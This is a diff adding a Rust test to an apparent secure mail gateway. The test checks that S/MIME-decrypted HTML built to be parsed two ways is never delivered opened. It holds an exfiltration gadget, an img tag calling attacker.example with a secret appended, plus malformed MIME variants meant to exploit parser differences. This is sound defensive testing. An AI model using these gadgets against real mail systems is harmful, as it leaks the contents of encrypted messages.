@@ -941,3 +941,111 @@ fn the_return_path_takes_bounces_from_untrusted_mailbox_servers_and_relays_nothi
     assert!(!contains(&notice.data, SECRET));
     assert_eq!(outside.count(), 0);
 }
+
+/// Decrypted HTML without integrity that mail-parser and a mail client
+/// read differently: a broken transfer encoding (mail-parser then reads
+/// the part as plain text), a multipart never closed (a captured one cut
+/// short by a gadget), a Content-Type written twice (mail-parser takes the
+/// last, clients the first), a `Date: … Z` field that makes mail-parser
+/// swallow the Content-Type after it, and HTML deeper than the defence
+/// follows attached messages. Attacker: an outside sender with CBC
+/// content to the organisation's certificate (made or malleated). None
+/// may reach the mailbox opened with the remote reference live: each is
+/// delivered as it came, with the reason. Control: the same HTML, read
+/// one way, arrives opened with the reference removed.
+#[test]
+fn html_that_reads_two_ways_is_not_opened_without_integrity() {
+    let mailbox = Sink::start(Script::default());
+    let outside = Sink::start(Script::default());
+    let gw = gateway(&mailbox, &outside, "");
+    let html = format!("<img src=\"//attacker.example/leak?\">{SECRET}");
+    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, html.as_bytes());
+    let mut deep = format!("Content-Type: text/html\r\n\r\n{html}\r\n");
+    for _ in 0..5 {
+        deep = format!("Content-Type: message/rfc822\r\n\r\n{deep}");
+    }
+    let cases = [
+        (
+            "qp",
+            format!(
+                "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
+                 {}==\r\n",
+                html.replace('=', "=3D")
+            ),
+        ),
+        (
+            "b64",
+            format!(
+                "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}!\r\n"
+            ),
+        ),
+        (
+            "unclosed",
+            format!(
+                "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
+                 Content-Type: text/html\r\n\r\n{html}\r\n"
+            ),
+        ),
+        (
+            "twice",
+            format!("Content-Type: text/html\r\nContent-Type: text/plain\r\n\r\n{html}\r\n"),
+        ),
+        (
+            "zone",
+            format!(
+                "Resent-Date: Mon, 30 Nov 2026 12:00:00 Z\r\nContent-Type: text/html\r\n\r\n\
+                 {html}\r\n"
+            ),
+        ),
+        ("deep", deep),
+        (
+            "control",
+            format!("Content-Type: text/html\r\n\r\n{html}\r\n"),
+        ),
+    ];
+    for (id, inner) in &cases {
+        let cms = captured(inner.as_bytes(), "-aes-256-cbc");
+        let id = format!("two-ways-{id}");
+        assert_eq!(
+            send(
+                &gw,
+                "bob@example-law.dk",
+                &enveloped(&id, "bob@example-law.dk", &cms)
+            )
+            .code,
+            250
+        );
+    }
+    for (id, _) in &cases {
+        let got = delivered(&mailbox, &format!("two-ways-{id}"));
+        let text = got.text();
+        let t = trace(&text);
+        if *id == "control" {
+            assert!(t.contains("html=neutralised"), "{t}");
+            assert!(text.contains("Content-Type: text/html"), "{text}");
+            assert_delivered_inert_html(&got);
+        } else {
+            assert!(
+                t.contains("undecryptable") && t.contains("reads two ways")
+                    || t.contains("undecryptable") && *id == "deep",
+                "{id} was opened: {t}\n{text}"
+            );
+            assert!(!text.contains(SECRET) && !contains(&got.data, "attacker.example"));
+            assert!(
+                text.contains("smime.p7m"),
+                "{id}: not the message as it came"
+            );
+        }
+    }
+    assert_eq!(outside.count(), 0);
+}
+
+/// The control's HTML was opened and holds no remote reference.
+fn assert_delivered_inert_html(got: &common::sink::Received) {
+    let html = html_of(&got.data);
+    assert!(html.contains("Fortroligt"), "{html}");
+    assert!(
+        !attribute_values(&html).iter().any(|v| v.contains("//")),
+        "{html}"
+    );
+}
